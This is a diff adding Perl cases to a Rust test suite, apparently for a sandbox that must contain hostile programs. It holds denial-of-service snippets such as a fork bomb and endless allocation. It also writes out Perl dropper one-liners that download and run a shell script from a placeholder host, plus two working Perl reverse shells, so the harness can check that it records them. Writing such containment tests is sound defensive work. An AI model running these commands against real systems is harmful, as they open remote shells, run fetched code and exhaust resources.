@@ -91,6 +91,49 @@ fn hostile_python_ends() {
     }
 }
 
+#[test]
+fn hostile_perl_ends() {
+    let deep = |open: &str, close: &str, times: usize| {
+        format!("{}1{}", open.repeat(times), close.repeat(times))
+    };
+    let programs = [
+        deep("(", ")", 5_000),
+        deep("[", "]", 5_000),
+        deep("{", "}", 5_000),
+        deep("!", "", 20_000),
+        deep("- ", "", 20_000),
+        deep("\\\\", "", 20_000),
+        deep("f(", ")", 5_000),
+        deep("not ", "", 5_000),
+        deep("1+", "", 50_000),
+        deep("$x = ", "", 5_000),
+        deep("1 ? 1 : ", "", 5_000),
+        deep("", "->[0]", 20_000),
+        deep("$x{", "}", 5_000),
+        deep("sub { ", " }", 5_000),
+        deep("\"@{[", "]}\"", 500),
+        "while (1) { }".to_owned(),
+        "sub f { f() } f();".to_owned(),
+        "$s = 'a'; while (1) { $s .= $s }".to_owned(),
+        "print 'a' x 1e12".to_owned(),
+        "@a = (1) x 1e9;".to_owned(),
+        "push @a, 1 while 1;".to_owned(),
+        "$a[1e12] = 1;".to_owned(),
+        "for (1..1e12) { }".to_owned(),
+        "eval '$x' while 1; eval q{eval $y}".to_owned(),
+        "$x = q{eval $x}; eval $x".to_owned(),
+        "fork while 1".to_owned(),
+        "printf '%999999999d', 1".to_owned(),
+        "('a' x 100000) =~ /(a*)*b/".to_owned(),
+        "use IO::Socket; while (1) { IO::Socket::INET->new('192.0.2.1:1') }".to_owned(),
+        "<<A . <<B . \"\nx\nA\n\"".to_owned(),
+        "s/x/y/e; tr/a-z//; y/a/; m{".to_owned(),
+    ];
+    for program in programs {
+        run("perl", &program);
+    }
+}
+
 /// Pieces of programs.
 fn piece() -> impl Strategy<Value = String> {
     let words = prop::sample::select(vec![
@@ -167,6 +210,7 @@ proptest! {
     #[test]
     fn any_python_ends(pieces in prop::collection::vec(piece(), 0..30)) {
         run("python3", &pieces.concat());
+        run("perl", &pieces.concat());
     }
 }
 
@@ -229,6 +273,34 @@ fn what_another_python_would_fetch_is_fetched() {
             "{effects:?}"
         );
     }
+}
+
+#[test]
+fn perl_droppers_fetch_start_and_connect() {
+    let served = [("http://192.0.2.1/s.sh", "#!/bin/sh\necho it ran\n")];
+    for line in [
+        "perl -e 'system(\"wget -q http://192.0.2.1/s.sh -O s; sh s\")'",
+        "perl -MHTTP::Tiny -e 'HTTP::Tiny->new->mirror(\"http://192.0.2.1/s.sh\", \"s\"); exec \"sh\", \"s\"'",
+        "perl -e 'print `curl -s http://192.0.2.1/s.sh | sh`'",
+    ] {
+        let (output, effects) = effects(line, &served);
+        assert!(output.contains("it ran"), "{line}: {output}");
+        assert!(effects.iter().any(|e| e.contains("http://192.0.2.1/s.sh")), "{line}: {effects:?}");
+    }
+    for line in [
+        "perl -e 'use Socket;$i=\"192.0.2.9\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'",
+        "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"192.0.2.9:4444\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
+    ] {
+        let (output, effects) = effects(line, &[]);
+        assert!(
+            effects.contains(&"connect perl 192.0.2.9:4444".to_owned()),
+            "{line}: {output} {effects:?}"
+        );
+    }
+    let line = "perl -e 'use LWP::Simple; getstore(\"http://192.0.2.1/s.sh\", \"s\")'";
+    let (output, effects) = effects(line, &[]);
+    assert!(output.contains("Can't locate LWP/Simple.pm in @INC"), "{output}");
+    assert!(effects.contains(&"fetch perl http://192.0.2.1/s.sh".to_owned()), "{effects:?}");
 }
 
 #[test]
